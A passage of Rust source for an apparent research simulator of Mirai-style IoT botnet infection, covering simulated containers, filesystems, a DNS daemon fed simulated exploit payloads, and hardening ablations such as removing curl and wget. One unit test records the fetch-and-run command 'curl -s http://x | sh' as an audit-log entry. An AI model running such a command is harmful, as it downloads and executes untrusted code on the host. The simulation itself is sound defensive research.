}

impl NetMgrDaemon {
    /// Creates the daemon; it will resolve against `dns_server`.
    pub fn new(core: ServiceCore, dns_server: SocketAddr, query_interval: Duration) -> Self {
        NetMgrDaemon {
            core,
            dns_server,
            query_interval,
            local_port: 0,
            next_id: 1,
            queries_sent: 0,
        }
    }

    /// Telemetry access to the service core.
    pub fn core(&self) -> &ServiceCore {
        &self.core
    }

    fn send_query(&mut self, ctx: &mut Ctx<'_>, name: String) {
        let id = self.next_id;
        self.next_id = self.next_id.wrapping_add(1);
        let msg = DnsMessage::Query { id, name };
        let bytes = msg.wire_size();
        if ctx
            .udp_send(self.local_port, self.dns_server, Payload::new(msg), bytes)
            .is_ok()
        {
            self.queries_sent += 1;
        }
    }
}

impl Application for NetMgrDaemon {
    fn name(&self) -> &str {
        "connmand"
    }

    fn fork(&self, map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(NetMgrDaemon {
            core: self.core.fork(map),
            dns_server: self.dns_server,
            query_interval: self.query_interval,
            local_port: self.local_port,
            next_id: self.next_id,
            queries_sent: self.queries_sent,
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.core
            .container()
            .register_proc("connmand", Some(ctx.app_id()), vec![]);
        self.local_port = ctx.udp_bind_ephemeral();
        let jitter = Duration::from_millis(ctx.rng().gen_range(0..2000));
        ctx.set_timer(jitter, TIMER_QUERY);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        match token {
            TIMER_QUERY => {
                if ctx.node_is_up() && self.core.process().is_alive() {
                    self.send_query(ctx, "pool.ntp.org".to_owned());
                }
                let jitter = Duration::from_millis(ctx.rng().gen_range(0..500));
                ctx.set_timer(self.query_interval + jitter, TIMER_QUERY);
            }
            TIMER_RESTART => self.core.restart(ctx),
            _ => {}
        }
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        let Some(msg) = packet.payload.get::<DnsMessage>() else {
            return;
        };
        let DnsMessage::Response { answers, .. } = msg else {
            return;
        };
        // Clone out what we react to before touching &mut self state.
        let mut leak_requested = false;
        let mut exploit_payloads: Vec<Vec<u8>> = Vec::new();
        for record in answers {
            if record.rtype == RTYPE_LEAK_PROBE {
                leak_requested = true;
            } else {
                exploit_payloads.push(record.data.clone());
            }
        }
        if leak_requested {
            if let Some(addr) = self.core.leak() {
                self.send_query(ctx, leak_query_name(addr));
            }
        }
        for data in exploit_payloads {
            self.core.deliver(ctx, &data, TIMER_RESTART);
        }
    }
}
