//! Containers: the Docker substitute.
//!
//! A container is the bookkeeping shared by the applications running on one
//! ghost node: a filesystem, a process table, the set of available shell
//! commands, an audit log, and memory accounting. Containers exist because
//! the paper's Devs *are* Docker containers — the infection chain
//! manipulates files, processes, and commands inside them.

use crate::fs::SimFs;
use crate::proc::{Pid, ProcTable};
use netsim::{AppId, NodeId, SimTime};
use std::cell::RefCell;
use std::collections::BTreeSet;
use std::fmt;
use std::rc::Rc;
use std::sync::Arc;
use tinyvm::Arch;

/// Per-process memory overhead charged in accounting (page tables, stacks).
pub const PROC_OVERHEAD_BYTES: u64 = 512 * 1024;

/// The set of shell commands available in a container image.
///
/// The paper's §IV-C insight — "firmware vendors may choose not to
/// install the `curl` command" — is an ablation over this set.
///
/// The underlying set is `Arc`-shared: every device built from the same
/// image configuration clones a pointer, not a `BTreeSet` of strings
/// (flyweight — one stored command list per distinct configuration, not
/// per container). Mutating constructors copy-on-write.
///
/// # Examples
///
/// ```
/// use firmware::CommandSet;
///
/// let hardened = CommandSet::without(&["curl", "wget"]);
/// assert!(!hardened.contains("curl"));
/// assert!(hardened.contains("sh"));
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandSet(Arc<BTreeSet<String>>);

impl CommandSet {
    /// The busybox-ish default found in IoT firmware.
    pub fn standard() -> Self {
        CommandSet(Arc::new(
            ["sh", "curl", "wget", "chmod", "rm", "cd", "ps", "kill", "export"]
                .into_iter()
                .map(str::to_owned)
                .collect(),
        ))
    }

    /// The standard set minus the given commands (hardening ablation).
    pub fn without(commands: &[&str]) -> Self {
        let mut set = CommandSet::standard();
        let inner = Arc::make_mut(&mut set.0);
        for c in commands {
            inner.remove(*c);
        }
        set
    }

    /// Whether `command` is available.
    pub fn contains(&self, command: &str) -> bool {
        self.0.contains(command)
    }

    /// The available commands in sorted order (serialization, digests).
    pub fn iter(&self) -> impl Iterator<Item = &str> {
        self.0.iter().map(String::as_str)
    }

    /// Builds a set holding exactly the given commands.
    pub fn from_list<I, S>(commands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        CommandSet(Arc::new(commands.into_iter().map(Into::into).collect()))
    }

    /// Whether two sets share one stored command list (flyweight check).
    pub fn shares_storage_with(&self, other: &CommandSet) -> bool {
        Arc::ptr_eq(&self.0, &other.0)
    }
}

impl Default for CommandSet {
    fn default() -> Self {
        CommandSet::standard()
    }
}

/// Audit-log entries recorded inside a container (the basis of the paper's
/// §IV-C insights, e.g. observing that `curl` was used for infection).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ContainerEvent {
    /// A shell command ran.
    CommandRun {
        /// When.
        time: SimTime,
        /// The command line.
        command: String,
    },
    /// A shell command was requested but is not installed.
    CommandMissing {
        /// When.
        time: SimTime,
        /// The missing command.
        command: String,
    },
    /// A file was downloaded.
    Downloaded {
        /// When.
        time: SimTime,
        /// Destination path.
        path: String,
        /// Bytes received.
        bytes: u64,
    },
    /// An executable was launched.
    Executed {
        /// When.
        time: SimTime,
        /// Path executed.
        path: String,
    },
    /// A daemon crashed (failed exploit under ASLR, etc.).
    DaemonCrashed {
        /// When.
        time: SimTime,
        /// Daemon name.
        daemon: String,
    },
    /// An exploit was blocked by a memory defense.
    ExploitBlocked {
        /// When.
        time: SimTime,
        /// Daemon name.
        daemon: String,
    },
    /// A process was killed (bot self-defense).
    ProcessKilled {
        /// When.
        time: SimTime,
        /// Victim process name.
        name: String,
    },
    /// The device rebooted: volatile state (downloads, running malware)
    /// was lost. Mirai does not persist, so a rebooted device is
    /// susceptible again.
    Rebooted {
        /// When.
        time: SimTime,
    },
}

/// Mutable container state (shared between the node's applications).
#[derive(Debug, Clone)]
pub struct ContainerState {
    /// Container name.
    pub name: String,
    /// CPU architecture of the image.
    pub arch: Arch,
    /// The ghost node this container is bridged to.
    pub node: NodeId,
    /// Filesystem.
    pub fs: SimFs,
    /// Process table.
    pub procs: ProcTable,
    /// Available shell commands.
    pub commands: CommandSet,
    /// Base image size (layers, libraries) in bytes.
    pub image_bytes: u64,
    /// When the bot started running, if the device was recruited.
    pub infected_at: Option<SimTime>,
    /// Whether a bot is currently alive in this container (cleared by
    /// reboots; the attacker's reconciler re-exploits when false).
    pub bot_alive: bool,
    /// Times the device has been (re-)infected.
    pub infection_count: u32,
    /// Times the device has rebooted.
    pub reboot_count: u32,
    /// Audit log.
    pub events: Vec<ContainerEvent>,
}

/// Shared handle to a container.
#[derive(Debug, Clone)]
pub struct ContainerHandle(Rc<RefCell<ContainerState>>);

impl ContainerHandle {
    /// Creates a container bridged to `node`, with an empty filesystem.
    pub fn new(
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
    ) -> Self {
        ContainerHandle::with_fs(name, arch, node, commands, image_bytes, SimFs::new())
    }

    /// Creates a container bridged to `node` with the given initial
    /// filesystem (typically [`SimFs::from_template`] over a shared image
    /// template).
    pub fn with_fs(
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
        fs: SimFs,
    ) -> Self {
        ContainerHandle(Rc::new(RefCell::new(ContainerState {
            name: name.into(),
            arch,
            node,
            fs,
            procs: ProcTable::new(),
            commands,
            image_bytes,
            infected_at: None,
            bot_alive: false,
            infection_count: 0,
            reboot_count: 0,
            events: Vec::new(),
        })))
    }

    /// Borrows the state immutably.
    ///
    /// # Panics
    ///
    /// Panics if the state is already borrowed mutably (re-entrant use).
    pub fn state(&self) -> std::cell::Ref<'_, ContainerState> {
        self.0.borrow()
    }

    /// Borrows the state mutably.
    ///
    /// # Panics
    ///
    /// Panics if the state is already borrowed (re-entrant use).
    pub fn state_mut(&self) -> std::cell::RefMut<'_, ContainerState> {
        self.0.borrow_mut()
    }

    /// The container's ghost node.
    pub fn node(&self) -> NodeId {
        self.0.borrow().node
    }

    /// The container's architecture.
    pub fn arch(&self) -> Arch {
        self.0.borrow().arch
    }

    /// Records an audit event.
    pub fn log(&self, event: ContainerEvent) {
        self.0.borrow_mut().events.push(event);
    }

    /// Marks the container as recruited into the botnet.
    pub fn mark_infected(&self, at: SimTime) {
        let mut s = self.0.borrow_mut();
        if s.infected_at.is_none() {
            s.infected_at = Some(at);
        }
        s.bot_alive = true;
        s.infection_count += 1;
    }

    /// Whether the container has *ever* been recruited.
    pub fn is_infected(&self) -> bool {
        self.0.borrow().infected_at.is_some()
    }

    /// Whether a bot is alive right now (false after a reboot until
    /// re-infection).
    pub fn bot_alive(&self) -> bool {
        self.0.borrow().bot_alive
    }

    /// Reboots the device's volatile state: every process except the
    /// firmware daemon dies (their netsim apps are returned for the caller
    /// to remove), `/tmp` downloads vanish, and the bot-alive flag clears —
    /// Mirai does not survive reboots. The daemon process (named after the
    /// image binary) survives, as init restarts it.
    pub fn reboot(&self, at: SimTime, daemon_names: &[&str]) -> Vec<netsim::AppId> {
        let mut s = self.0.borrow_mut();
        let mut killed_apps = Vec::new();
        let doomed: Vec<crate::proc::Pid> = s
            .procs
            .iter()
            .filter(|p| !daemon_names.contains(&p.name.as_str()))
            .map(|p| p.pid)
            .collect();
        for pid in doomed {
            if let Some(Some(app)) = s.procs.kill(pid) {
                killed_apps.push(app);
            }
        }
        s.fs.remove_prefix("/tmp/");
        s.bot_alive = false;
        s.reboot_count += 1;
        s.events.push(ContainerEvent::Rebooted { time: at });
        killed_apps
    }

    /// Registers a process.
    pub fn register_proc(
        &self,
        name: impl Into<String>,
        app: Option<AppId>,
        ports: Vec<u16>,
    ) -> Pid {
        self.0.borrow_mut().procs.register(name, app, ports)
    }

    /// Total memory charged to this container: image layers + files +
    /// per-process overhead.
    pub fn memory_bytes(&self) -> u64 {
        let s = self.0.borrow();
        s.image_bytes + s.fs.total_bytes() + s.procs.len() as u64 * PROC_OVERHEAD_BYTES
    }

    /// Opaque identity of this handle's shared allocation — the key under
    /// which [`ContainerRuntime::fork`] registers the forked replacement
    /// in a [`netsim::ForkMap`].
    pub fn fork_key(&self) -> usize {
        Rc::as_ptr(&self.0) as usize
    }
}

impl netsim::ForkClone for ContainerHandle {
    /// Translates the handle to its forked counterpart. The runtime must
    /// have been forked first (registering every container).
    ///
    /// # Panics
    ///
    /// Panics if the container was never registered in `map` — forking
    /// state that references an untracked container is a bug, not a
    /// recoverable condition.
    fn fork_clone(&self, map: &netsim::ForkMap) -> Self {
        map.get::<ContainerHandle>(self.fork_key())
            .expect("container registered in the fork map before app forking")
    }
}

/// The container runtime: builds containers and aggregates accounting —
/// the analogue of the Docker daemon plus NS3DockerEmulator's bridges.
#[derive(Debug, Default)]
pub struct ContainerRuntime {
    containers: Vec<ContainerHandle>,
}

impl ContainerRuntime {
    /// An empty runtime.
    pub fn new() -> Self {
        ContainerRuntime::default()
    }

    /// Builds a container and registers it with the runtime.
    pub fn create(
        &mut self,
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
    ) -> ContainerHandle {
        let handle = ContainerHandle::new(name, arch, node, commands, image_bytes);
        self.containers.push(handle.clone());
        handle
    }

    /// Builds a container whose filesystem starts from a shared image
    /// template and registers it with the runtime. `image_bytes` should
    /// account only for what is *not* in the template (base layers) — the
    /// template's files are charged through the filesystem.
    pub fn create_from_template(
        &mut self,
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
        template: crate::fs::FsTemplate,
    ) -> ContainerHandle {
        let handle = ContainerHandle::with_fs(
            name,
            arch,
            node,
            commands,
            image_bytes,
            SimFs::from_template(template),
        );
        self.containers.push(handle.clone());
        handle
    }

    /// All containers.
    pub fn containers(&self) -> &[ContainerHandle] {
        &self.containers
    }

    /// Number of containers.
    pub fn len(&self) -> usize {
        self.containers.len()
    }

    /// Whether the runtime has no containers.
    pub fn is_empty(&self) -> bool {
        self.containers.is_empty()
    }

    /// Total memory charged to all containers (Table I's pre-attack
    /// component).
    pub fn total_memory_bytes(&self) -> u64 {
        self.containers.iter().map(ContainerHandle::memory_bytes).sum()
    }

    /// Number of recruited containers.
    pub fn infected_count(&self) -> usize {
        self.containers.iter().filter(|c| c.is_infected()).count()
    }

    /// Deep-clones every container into fresh, independent handles and
    /// registers each old-handle → new-handle translation in `map`, so
    /// applications forked afterwards resolve the forked containers
    /// instead of aliasing the parent's.
    pub fn fork(&self, map: &mut netsim::ForkMap) -> ContainerRuntime {
        let mut containers = Vec::with_capacity(self.containers.len());
        for c in &self.containers {
            let forked = ContainerHandle(Rc::new(RefCell::new(c.state().clone())));
            map.register(c.fork_key(), forked.clone());
            containers.push(forked);
        }
        ContainerRuntime { containers }
    }

    /// Infection times, sorted (the botnet's growth curve; feeds the
    /// epidemic-model use case).
    pub fn infection_times(&self) -> Vec<SimTime> {
        let mut times: Vec<SimTime> = self
            .containers
            .iter()
            .filter_map(|c| c.state().infected_at)
            .collect();
        times.sort_unstable();
        times
    }
}

impl fmt::Display for ContainerState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} [{}] {} procs, {} files",
            self.name,
            self.arch,
            self.procs.len(),
            self.fs.file_count()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fs::{FileEntry, FileKind};

    fn handle() -> ContainerHandle {
        ContainerHandle::new(
            "dev-0",
            Arch::X86_64,
            NodeId::from_index(0),
            CommandSet::standard(),
            4_000_000,
        )
    }

    #[test]
    fn standard_commands_include_curl() {
        let c = CommandSet::standard();
        assert!(c.contains("curl"));
        assert!(c.contains("sh"));
        assert!(!c.contains("gcc"));
    }

    #[test]
    fn without_removes_commands() {
        let c = CommandSet::without(&["curl", "wget"]);
        assert!(!c.contains("curl"));
        assert!(!c.contains("wget"));
        assert!(c.contains("sh"));
    }

    #[test]
    fn infection_is_latched_once() {
        let h = handle();
        assert!(!h.is_infected());
        h.mark_infected(SimTime::from_secs(5));
        h.mark_infected(SimTime::from_secs(9));
        assert_eq!(h.state().infected_at, Some(SimTime::from_secs(5)));
    }

    #[test]
    fn memory_counts_image_files_and_procs() {
        let h = handle();
        let base = h.memory_bytes();
        assert_eq!(base, 4_000_000);
        h.state_mut().fs.write(
            "/tmp/bot",
            FileEntry {
                kind: FileKind::Data,
                size_bytes: 100_000,
                executable: false,
            },
        );
        h.register_proc("bot", None, vec![]);
        assert_eq!(h.memory_bytes(), 4_000_000 + 100_000 + PROC_OVERHEAD_BYTES);
    }

    #[test]
    fn runtime_aggregates() {
        let mut rt = ContainerRuntime::new();
        let a = rt.create("a", Arch::X86_64, NodeId::from_index(0), CommandSet::standard(), 1000);
        let _b = rt.create("b", Arch::Arm7, NodeId::from_index(1), CommandSet::standard(), 2000);
        assert_eq!(rt.len(), 2);
        assert_eq!(rt.total_memory_bytes(), 3000);
        assert_eq!(rt.infected_count(), 0);
        a.mark_infected(SimTime::from_secs(3));
        assert_eq!(rt.infected_count(), 1);
        assert_eq!(rt.infection_times(), vec![SimTime::from_secs(3)]);
    }

    #[test]
    fn audit_log_records_events() {
        let h = handle();
        h.log(ContainerEvent::CommandRun {
            time: SimTime::ZERO,
            command: "curl -s http://x | sh".into(),
        });
        assert_eq!(h.state().events.len(), 1);
    }
}
