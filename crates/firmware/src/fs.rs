//! The container's in-memory filesystem.
//!
//! Holds the files the infection chain manipulates: the downloaded shell
//! script, the architecture-specific malware binary (`wget`/`chmod`/exec),
//! and its deletion afterwards (Mirai removes its binary on startup).

use netsim::{Application, Ctx};
use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;
use tinyvm::Arch;

/// A shell script: a sequence of command lines.
///
/// Line storage is `Arc`-shared: the loader script served by the attacker's
/// file server is downloaded into every infected device's filesystem, and
/// cloning the script there (or into a forked world) shares one line vector
/// instead of reallocating it per device (flyweight).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellScript {
    lines: Arc<Vec<String>>,
}

impl ShellScript {
    /// Creates a script from lines.
    pub fn new<I, S>(lines: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        ShellScript {
            lines: Arc::new(lines.into_iter().map(Into::into).collect()),
        }
    }

    /// The command lines, in execution order.
    pub fn lines(&self) -> &[String] {
        &self.lines
    }

    /// Approximate byte size of the script text.
    pub fn byte_size(&self) -> u64 {
        self.lines.iter().map(|l| l.len() as u64 + 1).sum()
    }
}

/// Environment handed to a program launcher when a file is executed.
#[derive(Debug)]
pub struct LaunchEnv {
    /// Path the program was executed from.
    pub exec_path: String,
    /// Architecture of the host container.
    pub host_arch: Arch,
    /// Process-table id assigned to the new program.
    pub pid: crate::proc::Pid,
    /// The container the program runs in.
    pub container: crate::container::ContainerHandle,
}

/// Factory invoked when an executable file runs; returns the application
/// embodying the program (e.g. the Mirai bot).
///
/// `Send + Sync` so executables can travel inside packet payloads (file
/// downloads); the closure should capture only plain configuration.
pub type ProgramLauncher = Arc<dyn Fn(&mut Ctx<'_>, LaunchEnv) -> Box<dyn Application> + Send + Sync>;

/// A file as served by the Attacker's HTTP file server: the path it is
/// published under plus its contents.
#[derive(Debug, Clone)]
pub struct ServedFile {
    /// Published path (e.g. `/bins/mirai.x86`).
    pub path: String,
    /// File contents and metadata.
    pub entry: FileEntry,
}

/// What a file contains.
#[derive(Clone)]
pub enum FileKind {
    /// Plain data.
    Data,
    /// A shell script.
    Script(ShellScript),
    /// An executable for `arch`; running it spawns the launcher's app.
    Executable {
        /// Architecture the binary was compiled for.
        arch: Arch,
        /// Factory producing the program's behaviour.
        launcher: ProgramLauncher,
    },
}

impl fmt::Debug for FileKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FileKind::Data => f.write_str("Data"),
            FileKind::Script(s) => f.debug_tuple("Script").field(&s.lines.len()).finish(),
            FileKind::Executable { arch, .. } => {
                f.debug_struct("Executable").field("arch", arch).finish()
            }
        }
    }
}

/// One file: contents kind, size, and mode.
#[derive(Debug, Clone)]
pub struct FileEntry {
    /// Contents.
    pub kind: FileKind,
    /// Size in bytes (drives memory accounting and download timing).
    pub size_bytes: u64,
    /// Whether the execute bit is set.
    pub executable: bool,
}

/// Errors from filesystem operations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FsError {
    /// No file at the path.
    NotFound(String),
    /// The file is not executable (missing chmod +x).
    NotExecutable(String),
}

impl fmt::Display for FsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FsError::NotFound(p) => write!(f, "no such file: {p}"),
            FsError::NotExecutable(p) => write!(f, "permission denied: {p}"),
        }
    }
}

impl std::error::Error for FsError {}

/// An immutable filesystem template: the sorted file manifest a container
/// image starts from. Shared by `Arc` across every container built from the
/// same image.
pub type FsTemplate = Arc<BTreeMap<String, FileEntry>>;

/// A flat in-memory filesystem, copy-on-write over an optional shared
/// template.
///
/// A filesystem is the composition of an immutable, `Arc`-shared *base*
/// (the image template — identical for every device built from the same
/// firmware) and a private *overlay* of per-container changes. Writes,
/// chmods, and removals land in the overlay (removals as tombstones); reads
/// and iteration present the merged view. A fleet of 100k identical devices
/// therefore stores its firmware manifest once, and each device pays only
/// for the files it actually touched — the same layering Docker images use.
///
/// # Examples
///
/// ```
/// use firmware::{FileEntry, FileKind, SimFs};
///
/// let mut fs = SimFs::new();
/// fs.write("/tmp/mirai", FileEntry {
///     kind: FileKind::Data,
///     size_bytes: 121_000,
///     executable: false,
/// });
/// assert!(fs.resolve_executable("/tmp/mirai").is_err()); // needs chmod +x
/// fs.chmod_exec("/tmp/mirai")?;
/// assert!(fs.resolve_executable("/tmp/mirai").is_ok());
/// # Ok::<(), firmware::FsError>(())
/// ```
#[derive(Debug, Default, Clone)]
pub struct SimFs {
    /// Shared image template, if the container was built from one.
    base: Option<FsTemplate>,
    /// Per-container changes: `Some` = written/updated file, `None` =
    /// tombstone shadowing a base file.
    overlay: BTreeMap<String, Option<FileEntry>>,
}

impl SimFs {
    /// An empty filesystem.
    pub fn new() -> Self {
        SimFs::default()
    }

    /// A filesystem whose initial contents are the shared `template`.
    pub fn from_template(template: FsTemplate) -> Self {
        SimFs {
            base: Some(template),
            overlay: BTreeMap::new(),
        }
    }

    /// Writes (or replaces) a file.
    pub fn write(&mut self, path: impl Into<String>, entry: FileEntry) {
        self.overlay.insert(path.into(), Some(entry));
    }

    /// Iterates all files in sorted path order (serialization, digests):
    /// a sorted merge of base and overlay, overlay entries shadowing base
    /// entries and tombstones hiding them.
    pub fn files(&self) -> impl Iterator<Item = (&str, &FileEntry)> {
        let mut base = self
            .base
            .as_deref()
            .map(|b| b.iter().peekable());
        let mut overlay = self.overlay.iter().peekable();
        std::iter::from_fn(move || loop {
            let base_path = base
                .as_mut()
                .and_then(|b| b.peek())
                .map(|(p, _)| p.as_str());
            let over_path = overlay.peek().map(|(p, _)| p.as_str());
            match (base_path, over_path) {
                (None, None) => return None,
                (Some(_), None) => {
                    let (p, e) = base.as_mut().and_then(|b| b.next())?;
                    return Some((p.as_str(), e));
                }
                (Some(bp), Some(op)) if bp < op => {
                    let (p, e) = base.as_mut().and_then(|b| b.next())?;
                    return Some((p.as_str(), e));
                }
                (Some(bp), Some(op)) => {
                    if bp == op {
                        // Overlay shadows the base entry (or tombstones it).
                        base.as_mut().and_then(|b| b.next());
                    }
                    let (p, e) = overlay.next()?;
                    if let Some(entry) = e {
                        return Some((p.as_str(), entry));
                    }
                }
                (None, Some(_)) => {
                    let (p, e) = overlay.next()?;
                    if let Some(entry) = e {
                        return Some((p.as_str(), entry));
                    }
                }
            }
        })
    }

    fn lookup(&self, path: &str) -> Option<&FileEntry> {
        match self.overlay.get(path) {
            Some(Some(entry)) => Some(entry),
            Some(None) => None, // tombstone
            None => self.base.as_deref().and_then(|b| b.get(path)),
        }
    }

    /// Reads a file.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn read(&self, path: &str) -> Result<&FileEntry, FsError> {
        self.lookup(path)
            .ok_or_else(|| FsError::NotFound(path.to_owned()))
    }

    /// Marks a file executable (`chmod +x`). A base file is copied up into
    /// the overlay first.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn chmod_exec(&mut self, path: &str) -> Result<(), FsError> {
        if let Some(Some(entry)) = self.overlay.get_mut(path) {
            entry.executable = true;
            return Ok(());
        }
        let mut entry = match self.overlay.get(path) {
            Some(None) => None, // tombstone: the path was deleted
            _ => self.base.as_deref().and_then(|b| b.get(path)).cloned(),
        }
        .ok_or_else(|| FsError::NotFound(path.to_owned()))?;
        entry.executable = true;
        self.overlay.insert(path.to_owned(), Some(entry));
        Ok(())
    }

    /// Removes a file; returns whether it existed.
    pub fn remove(&mut self, path: &str) -> bool {
        let existed = self.lookup(path).is_some();
        if !existed {
            return false;
        }
        if self.base.as_deref().is_some_and(|b| b.contains_key(path)) {
            // A tombstone must shadow the base entry.
            self.overlay.insert(path.to_owned(), None);
        } else {
            self.overlay.remove(path);
        }
        true
    }

    /// Removes every file under `prefix` (e.g. `/tmp/` on reboot — tmpfs
    /// contents are volatile); returns how many were removed.
    pub fn remove_prefix(&mut self, prefix: &str) -> usize {
        let doomed: Vec<String> = self
            .files()
            .map(|(p, _)| p.to_owned())
            .filter(|p| p.starts_with(prefix))
            .collect();
        for path in &doomed {
            self.remove(path);
        }
        doomed.len()
    }

    /// Whether a path exists.
    pub fn exists(&self, path: &str) -> bool {
        self.lookup(path).is_some()
    }

    /// Resolves an executable for running.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if missing, [`FsError::NotExecutable`]
    /// if the execute bit is not set.
    pub fn resolve_executable(&self, path: &str) -> Result<&FileEntry, FsError> {
        let entry = self.read(path)?;
        if !entry.executable {
            return Err(FsError::NotExecutable(path.to_owned()));
        }
        Ok(entry)
    }

    /// Total bytes stored.
    pub fn total_bytes(&self) -> u64 {
        self.files().map(|(_, f)| f.size_bytes).sum()
    }

    /// Number of files.
    pub fn file_count(&self) -> usize {
        self.files().count()
    }

    /// Number of entries in the private overlay (tests, diagnostics): how
    /// much of the filesystem is *not* shared with the template.
    pub fn overlay_len(&self) -> usize {
        self.overlay.len()
    }
}

/// Content-addressed store of filesystem templates.
///
/// Interning the same manifest twice yields the same `Arc` (one stored
/// copy however many images describe identical contents). Content identity
/// covers each file's path, size, execute bit, and kind — for scripts, the
/// command lines; for executables, the architecture. Launcher closures are
/// configuration-only by construction (see [`ProgramLauncher`]) and are not
/// part of the identity.
#[derive(Debug, Default)]
pub struct FsTemplateStore {
    templates: Vec<(u64, FsTemplate)>,
}

impl FsTemplateStore {
    /// An empty store.
    pub fn new() -> Self {
        FsTemplateStore::default()
    }

    fn content_key(manifest: &BTreeMap<String, FileEntry>) -> u64 {
        let mut h = netsim::StateHasher::new();
        h.write_usize(manifest.len());
        for (path, entry) in manifest {
            h.write_str(path);
            h.write_u64(entry.size_bytes);
            h.write_bool(entry.executable);
            match &entry.kind {
                FileKind::Data => h.write_u64(0),
                FileKind::Script(s) => {
                    h.write_u64(1);
                    h.write_usize(s.lines().len());
                    for line in s.lines() {
                        h.write_str(line);
                    }
                }
                FileKind::Executable { arch, .. } => {
                    h.write_u64(2);
                    h.write_str(arch.suffix());
                }
            }
        }
        h.finish()
    }

    /// Interns `manifest`, returning the shared template — the existing one
    /// if an identical manifest was interned before.
    pub fn intern(&mut self, manifest: BTreeMap<String, FileEntry>) -> FsTemplate {
        let key = Self::content_key(&manifest);
        if let Some((_, t)) = self.templates.iter().find(|(k, _)| *k == key) {
            return Arc::clone(t);
        }
        let template: FsTemplate = Arc::new(manifest);
        self.templates.push((key, Arc::clone(&template)));
        template
    }

    /// Number of distinct templates stored.
    pub fn len(&self) -> usize {
        self.templates.len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.templates.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn data(bytes: u64) -> FileEntry {
        FileEntry {
            kind: FileKind::Data,
            size_bytes: bytes,
            executable: false,
        }
    }

    #[test]
    fn write_read_remove() {
        let mut fs = SimFs::new();
        fs.write("/tmp/a", data(10));
        assert!(fs.exists("/tmp/a"));
        assert_eq!(fs.read("/tmp/a").expect("exists").size_bytes, 10);
        assert!(fs.remove("/tmp/a"));
        assert!(!fs.remove("/tmp/a"));
        assert_eq!(fs.read("/tmp/a").unwrap_err(), FsError::NotFound("/tmp/a".into()));
    }

    #[test]
    fn chmod_gates_execution() {
        let mut fs = SimFs::new();
        fs.write("/tmp/bot", data(100));
        assert_eq!(
            fs.resolve_executable("/tmp/bot").unwrap_err(),
            FsError::NotExecutable("/tmp/bot".into())
        );
        fs.chmod_exec("/tmp/bot").expect("exists");
        assert!(fs.resolve_executable("/tmp/bot").is_ok());
    }

    #[test]
    fn chmod_missing_file_errors() {
        let mut fs = SimFs::new();
        assert!(matches!(fs.chmod_exec("/nope"), Err(FsError::NotFound(_))));
    }

    #[test]
    fn remove_prefix_clears_tmpfs() {
        let mut fs = SimFs::new();
        fs.write("/tmp/a", data(1));
        fs.write("/tmp/b", data(2));
        fs.write("/etc/config", data(3));
        assert_eq!(fs.remove_prefix("/tmp/"), 2);
        assert!(!fs.exists("/tmp/a"));
        assert!(fs.exists("/etc/config"));
    }

    #[test]
    fn total_bytes_sums_files() {
        let mut fs = SimFs::new();
        fs.write("/a", data(10));
        fs.write("/b", data(32));
        assert_eq!(fs.total_bytes(), 42);
        assert_eq!(fs.file_count(), 2);
    }

    #[test]
    fn script_byte_size_counts_newlines() {
        let s = ShellScript::new(["ab", "c"]);
        assert_eq!(s.byte_size(), 5);
    }

    fn template() -> FsTemplate {
        Arc::new(BTreeMap::from([
            ("/etc/config".to_owned(), data(3)),
            (
                "/usr/sbin/connmand".to_owned(),
                FileEntry {
                    kind: FileKind::Data,
                    size_bytes: 900,
                    executable: true,
                },
            ),
        ]))
    }

    #[test]
    fn template_files_are_visible_and_unshadowed_until_written() {
        let fs = SimFs::from_template(template());
        assert!(fs.exists("/etc/config"));
        assert_eq!(fs.total_bytes(), 903);
        assert_eq!(fs.file_count(), 2);
        assert_eq!(fs.overlay_len(), 0);
        assert!(fs.resolve_executable("/usr/sbin/connmand").is_ok());
    }

    #[test]
    fn overlay_shadows_and_merges_in_sorted_order() {
        let mut fs = SimFs::from_template(template());
        fs.write("/etc/config", data(10)); // shadow
        fs.write("/tmp/mirai", data(7)); // new
        let listed: Vec<(String, u64)> = fs
            .files()
            .map(|(p, e)| (p.to_owned(), e.size_bytes))
            .collect();
        assert_eq!(
            listed,
            vec![
                ("/etc/config".to_owned(), 10),
                ("/tmp/mirai".to_owned(), 7),
                ("/usr/sbin/connmand".to_owned(), 900),
            ]
        );
        assert_eq!(fs.total_bytes(), 917);
    }

    #[test]
    fn removing_a_base_file_tombstones_it() {
        let mut fs = SimFs::from_template(template());
        assert!(fs.remove("/etc/config"));
        assert!(!fs.exists("/etc/config"));
        assert!(!fs.remove("/etc/config"));
        assert_eq!(fs.file_count(), 1);
        // A fresh write over the tombstone resurrects the path.
        fs.write("/etc/config", data(5));
        assert_eq!(fs.read("/etc/config").expect("resurrected").size_bytes, 5);
    }

    #[test]
    fn chmod_copies_a_base_file_up() {
